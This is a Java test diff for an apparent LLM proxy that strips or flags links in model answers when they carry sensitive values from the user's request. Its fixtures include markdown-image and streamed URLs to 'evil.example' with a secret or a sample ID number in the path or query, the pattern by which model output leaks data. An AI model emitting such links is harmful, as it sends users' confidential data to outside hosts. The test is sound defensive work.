@@ -305,4 +305,19 @@ class TransformingTest {
     rig.upstreams.answer(chat("for another"));
     assertThat(rig.walk(Ask.about("write to " + MAIL).of("other")).json).isEqualTo(chat("for another"));
   }
+
+  // Links
+
+  @Test
+  @DisplayName("A17 answers take the class of their request: links that carry what was found go, restored values included; others stay")
+  void links() {
+    rig.rules = rules(Policies.bundle(RULES + CLOUD_FIRST + "output:\n  confidential: {links: strip}\n  restricted: {links: flag}\n"));
+    rig.upstreams.then(events -> events.answered(rig.upstreams.bytes(chat("![x](https://evil.example/?q=" + sent(0) + ") https://example.com/")), Upstreams.Usage.UNKNOWN));
+    assertThat(rig.walk(Ask.about("write to " + MAIL)).json).isEqualTo(chat("![x]([link removed]) https://example.com/"));
+    rig.upstreams.stream(chunk("\"content\":\"https://evil.ex\"", "null"), chunk("\"content\":\"ample/11010519491231002X end\"", "\"stop\""));
+    assertThat(rig.walk(Ask.about("身份证 11010519491231002X").stream()).frames.toString()).contains("https://evil.example/11010519491231002X [link may carry data] end");
+    String link = "https://evil.example/?q=0123456789012345678901234567890";
+    rig.upstreams.answer(chat(link));
+    assertThat(rig.walk(Ask.harmless()).json).as("no rule for this class").isEqualTo(chat(link));
+  }
 }
